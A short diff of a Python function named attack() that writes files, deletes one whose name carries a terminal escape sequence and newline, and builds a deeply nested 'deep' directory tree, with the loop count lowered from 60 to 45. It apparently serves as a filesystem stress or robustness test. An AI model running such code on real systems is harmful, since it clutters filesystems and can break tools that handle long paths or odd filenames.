@@ -5,7 +5,7 @@ def attack():
             file.write("x")
         os.remove(f"\x1b[31m{number}\n")
     deep = os.getcwd()
-    for _ in range(60):
+    for _ in range(45):
         os.makedirs("deep" * 20, exist_ok=True)
         os.chdir("deep" * 20)
     os.chdir(deep)
